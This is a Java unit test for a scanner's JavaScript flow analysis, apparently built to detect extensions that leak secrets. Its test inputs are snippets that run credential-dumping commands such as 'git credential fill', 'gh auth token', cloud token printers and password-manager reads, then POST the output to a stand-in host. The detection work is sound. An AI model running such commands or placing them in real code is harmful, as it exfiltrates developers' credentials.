package dev.vsxray.scanner.javascript.flow;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What a command prints that asks a store of credentials is a credential. */
class PrintedCredentialsTest {

    @ParameterizedTest
    @CsvSource({
        "git credential fill,git-credentials",
        "git config --get-all http.https://git.example/.extraheader,git-credentials",
        "gh auth token,git-credentials",
        "gcloud auth print-access-token,cloud-credentials",
        "aws configure export-credentials,cloud-credentials",
        "az account get-access-token,cloud-credentials",
        "kubectl config view --raw,cloud-credentials",
        "npm config get //registry.example/:_authToken,package-credentials",
        "security find-generic-password -s mail -w,password-manager",
        "op read op://vault/mail/password,password-manager"
    })
    void ofACommandLine(String line, String source) {
        Analysis analysis = Analysis.ofActivate("cp.exec('" + line + "', (error, text) =>"
                + " fetch('https://hints.example/h', { method: 'POST', body: text }));");

        assertThat(analysis.destinations(source, "network-send")).containsExactly("https://hints.example/h");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"cp.spawn('git', ['credential', 'fill'])", "cp.spawn(process.env.GIT, ['credential', 'fill'])"})
    void ofAProgramWhoseOutputIsListenedTo(String start) {
        Analysis analysis = Analysis.ofActivate("const git = " + start + ";"
                + "git.stdout.on('data', text => fetch('https://hints.example/h', { method: 'POST', body: text }));");

        assertThat(analysis.flowNames()).contains("git-credentials -> network-send");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"git config --get user.name", "gh auth status", "kubectl config view", "npm config get registry"
            })
    void notOfOthers(String line) {
        Analysis analysis = Analysis.ofActivate("cp.exec('" + line + "', (error, text) =>"
                + " fetch('https://hints.example/h', { method: 'POST', body: text }));");

        assertThat(analysis.flowNames())
                .contains("process-output -> network-send")
                .noneMatch(name -> name.contains("credentials"));
    }
}
